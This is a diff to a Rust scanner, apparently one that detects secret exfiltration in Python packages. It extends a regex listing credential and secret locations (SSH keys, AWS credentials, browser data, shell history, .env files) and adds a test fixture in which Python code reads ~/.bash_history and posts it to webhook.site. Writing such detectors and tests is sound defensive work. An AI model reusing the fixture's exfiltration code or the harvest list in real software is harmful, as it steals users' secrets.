@@ -58,7 +58,7 @@ static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| {
 });
 /// Harvesting in the same file: what an endpoint next to it would carry off.
 static HARVEST: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)(?:dict|json\.dumps)\s*\(\s*os\.environ|os\.environ\.(?:copy|items)|getpass\.getuser|socket\.gethostname|platform\.(?:node|uname)|os\.getlogin|os\.uname|\.aws[/\\]+credentials|\.ssh[/\\]|Login Data|Local State|leveldb|tdata|\.git-credentials|\.netrc|browser_cookie|wallet|ipify|ipinfo\.io|ifconfig\.me|ImageGrab|pyautogui\.screenshot|clipboard").expect("harvest")
+    Regex::new(r"(?i)(?:dict|json\.dumps)\s*\(\s*os\.environ|\.(?:bash|zsh)_history|~[/\\]\.env(?-u:\b)|os\.environ\.(?:copy|items)|getpass\.getuser|socket\.gethostname|platform\.(?:node|uname)|os\.getlogin|os\.uname|\.aws[/\\]+credentials|\.ssh[/\\]|Login Data|Local State|leveldb|tdata|\.git-credentials|\.netrc|browser_cookie|wallet|ipify|ipinfo\.io|ifconfig\.me|ImageGrab|pyautogui\.screenshot|clipboard").expect("harvest")
 });
 
 /// The URL's tail after the endpoint (`/123/abc` of a webhook), up to a quote or space.
@@ -450,6 +450,13 @@ mod tests {
                     Runtime,
                     "class Client:\n    def post(self, url, data):\n        return requests.post(url, data=data)\n",
                     None,
+                ),
+                (
+                    "shell history sent to a request bin",
+                    "pkg/sync.py",
+                    Runtime,
+                    "def sync():\n    h = open(os.path.expanduser('~/.bash_history')).read()\n    requests.post('https://webhook.site/7d1e', data=h)\n",
+                    Some((3, "webhook.site (request bin)", High)),
                 ),
                 ("look-alike name is not the service", "pkg/a.py", Runtime, "u = 'https://mypaste.ee.example.org/x'\n", None),
                 ("collaborator named in a comment", "pkg/a.py", Runtime, "# test with interactsh: x.oast.fun\nx = 1\n", None),
